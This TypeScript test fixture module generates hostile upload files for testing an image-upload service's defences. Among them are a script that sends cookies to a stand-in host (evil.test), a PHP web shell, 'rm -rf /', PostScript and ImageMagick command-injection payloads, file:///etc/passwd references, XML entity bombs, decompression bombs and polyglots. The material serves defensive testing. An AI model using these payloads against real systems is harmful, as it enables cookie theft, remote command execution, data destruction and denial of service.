import { crc32, deflateSync, gzipSync } from 'node:zlib'
import { buildPicture } from './build-picture.ts'

export interface NastyFile {
  name: string
  body: Buffer
}

const text = (value: string) => Buffer.from(value)

/** A PNG that declares any size and contains as little as possible. */
export function pngBomb(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const row = Buffer.alloc(Math.ceil(width / 8) + 1)
  const rows = deflateSync(Buffer.concat(Array.from({ length: Math.min(height, 4000) }, () => row)))
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(kind: string, body: Buffer): Buffer {
  const named = Buffer.concat([text(kind), body])
  const out = Buffer.alloc(named.length + 8)
  out.writeUInt32BE(body.length, 0)
  named.copy(out, 4)
  out.writeUInt32BE(crc32(named), named.length + 4)
  return out
}

/** A progressive JPEG that repeats its last scan: each repetition costs a pass over the whole picture. */
export function scanBomb(progressive: Buffer, scans: number): Buffer {
  const last = progressive.lastIndexOf(Buffer.from([0xff, 0xda]))
  const scan = progressive.subarray(last, progressive.length - 2)
  return Buffer.concat([
    progressive.subarray(0, progressive.length - 2),
    ...Array<Buffer>(scans).fill(scan),
    Buffer.from([0xff, 0xd9]),
  ])
}

/** A GIF with an excessive number of frames. */
function gifBomb(frames: number): Buffer {
  const head = Buffer.from('47494638396110271027800000ff0000000000', 'hex')
  const frame = Buffer.from('21f90400000000002c0000000010271027000002024401', 'hex')
  return Buffer.concat([head, ...Array<Buffer>(frames).fill(frame), Buffer.from('003b', 'hex')])
}

/** A file type box as at the start of HEIF files. */
function ftyp(brand: string, rest: Buffer = Buffer.alloc(64)): Buffer {
  return Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    text(`ftyp${brand}`),
    Buffer.alloc(4),
    text(`mif1${brand}`),
    rest,
  ])
}

/** Files with which no member may be able to do harm. */
export async function nastyFiles(): Promise<NastyFile[]> {
  const jpeg = await buildPicture({ width: 800, height: 700 })
  const png = await buildPicture({ width: 800, height: 700, format: 'png' })
  const webp = await buildPicture({ width: 800, height: 700, format: 'webp' })
  const avif = await buildPicture({ width: 800, height: 700, format: 'avif' })
  const cut = (body: Buffer, part: number) => body.subarray(0, Math.floor(body.length * part))
  const garbled = (body: Buffer) => {
    const copy = Buffer.from(body)
    for (let at = 200; at < copy.length; at += 97) copy[at] = (copy[at] ?? 0) ^ 0x5a
    return copy
  }
  const script = '<script>fetch("//evil.test/"+document.cookie)</script>'
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900">${script}<image href="file:///etc/passwd"/></svg>`
  return [
    { name: 'empty', body: Buffer.alloc(0) },
    { name: 'one byte', body: Buffer.from([0xff]) },
    { name: 'zeros', body: Buffer.alloc(100_000) },
    { name: 'svg with script', body: text(svg) },
    { name: 'svg with declaration', body: text(`<?xml version="1.0"?><!DOCTYPE svg>${svg}`) },
    { name: 'svg that names files', body: text(svg.replace('image', 'use')) },
    { name: 'svgz', body: gzipSync(svg) },
    {
      name: 'billion laughs',
      body: text('<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><svg>&b;</svg>'),
    },
    { name: 'html', body: text(`<!doctype html><html>${script}</html>`) },
    { name: 'html after a byte order mark', body: text(`\ufeff<html>${script}`) },
    { name: 'php', body: text('<?php system($_GET["c"]); ?>') },
    { name: 'shell script', body: text('#!/bin/sh\nrm -rf /\n') },
    {
      name: 'pdf',
      body: text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'),
    },
    { name: 'postscript', body: text('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\nshowpage') },
    {
      name: 'mvg',
      body: text('push graphic-context\nfill \'url(https://evil.test/x.jpg"|id")\'\npop graphic-context'),
    },
    {
      name: 'zip',
      body: Buffer.from('504b03040a00000000000000000000000000000000000000000005000000612f2e2e2f62', 'hex'),
    },
    { name: 'elf', body: Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(500)]) },
    { name: 'exe', body: Buffer.concat([text('MZ'), Buffer.alloc(500)]) },
    { name: 'wasm', body: Buffer.from('0061736d01000000', 'hex') },
    { name: 'playlist', body: text('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n') },
    { name: 'mp4', body: ftyp('isom') },
    { name: 'gif', body: gifBomb(1) },
    { name: 'gif with 10,000 frames', body: gifBomb(10_000) },
    { name: 'gifar', body: Buffer.concat([gifBomb(1), Buffer.from('504b0304', 'hex'), Buffer.alloc(100)]) },
    { name: 'bmp', body: Buffer.concat([text('BM'), Buffer.alloc(200)]) },
    { name: 'tiff', body: Buffer.from('49492a0008000000000000000000', 'hex') },
    { name: 'icon', body: Buffer.from('00000100010001010000010018003000000016000000', 'hex') },
    { name: 'photoshop', body: Buffer.concat([text('8BPS'), Buffer.alloc(100)]) },
    {
      name: 'jpeg head and html',
      body: Buffer.concat([Buffer.from('ffd8ffe000104a46494600', 'hex'), text(`<html>${script}`)]),
    },
    // With half of its picture it would be asked about.
    { name: 'jpeg cut after a third', body: cut(jpeg, 0.33) },
    { name: 'jpeg cut in its header', body: cut(jpeg, 0.005) },
    { name: 'jpeg garbled', body: garbled(jpeg) },
    { name: 'png cut in half', body: cut(png, 0.5) },
    { name: 'png garbled', body: garbled(png) },
    { name: 'webp cut in half', body: cut(webp, 0.5) },
    { name: 'webp garbled', body: garbled(webp) },
    { name: 'avif cut in half', body: cut(avif, 0.5) },
    { name: 'avif of nothing', body: ftyp('avif') },
    { name: 'heic of nothing', body: ftyp('heic') },
    { name: 'png of 40,000 by 40,000', body: pngBomb(40_000, 40_000) },
    { name: 'png of 2,000,000,000 by 1', body: pngBomb(2_000_000_000, 1) },
    { name: 'png of 0 by 0', body: pngBomb(0, 0) },
    { name: 'png of 19,000 by 6,000 with few rows', body: pngBomb(19_000, 6000) },
  ]
}

/** A valid photograph with data appended: accepted, and nothing of the appended data may be served. */
export async function polyglots(): Promise<NastyFile[]> {
  const jpeg = await buildPicture({ width: 700, height: 700 })
  const png = await buildPicture({ width: 700, height: 700, format: 'png' })
  const tail = text(
    '<script>POLYGLOT-TAIL</script><?php POLYGLOT-TAIL __HALT_COMPILER(); ?>PK\u0003\u0004POLYGLOT-TAIL',
  )
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, tail.length + 2]), tail])
  return [
    { name: 'jpeg with a script behind', body: Buffer.concat([jpeg, tail]) },
    {
      name: 'jpeg with a script in a comment',
      body: Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]),
    },
    { name: 'png with a script behind', body: Buffer.concat([png, tail]) },
  ]
}
